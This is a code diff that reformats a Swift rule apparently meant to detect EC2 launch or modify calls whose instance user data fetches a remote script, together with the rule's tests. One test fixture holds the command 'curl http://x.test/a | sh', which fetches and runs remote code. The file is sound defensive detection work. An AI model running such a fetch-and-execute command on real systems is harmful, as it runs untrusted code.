@@ -16,8 +16,9 @@ struct UserDataFetchesScript: Rule, Equatable {
   let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0002:T1059.004"])]
   let summaryAttributes = ["userIdentity.arn", "requestParameters.instanceId"]
 
-  private static let calls: Set<Text> = ["RunInstances", "ModifyInstanceAttribute", "CreateLaunchTemplate"]
-
+  private static let calls: Set<Text> = [
+    "RunInstances", "ModifyInstanceAttribute", "CreateLaunchTemplate",
+  ]
 
   func matches(_ event: Event) -> Bool {
     guard CloudTrail.isCall(event, "ec2.amazonaws.com", Self.calls), CloudTrail.isSuccess(event),
@@ -66,7 +67,8 @@ struct UserDataFetchesScript: Rule, Equatable {
         ]),
       RuleTest(
         "script of packages", matches: false,
-        Self.log.with("requestParameters.userData.value", "IyEvYmluL3NoCmFwdC1nZXQgaW5zdGFsbCBuZ2lueAo=")),
+        Self.log.with(
+          "requestParameters.userData.value", "IyEvYmluL3NoCmFwdC1nZXQgaW5zdGFsbCBuZ2lueAo=")),
       RuleTest(
         "no base64", matches: false,
         Self.log.with("requestParameters.userData.value", "curl http://x.test/a | sh")),
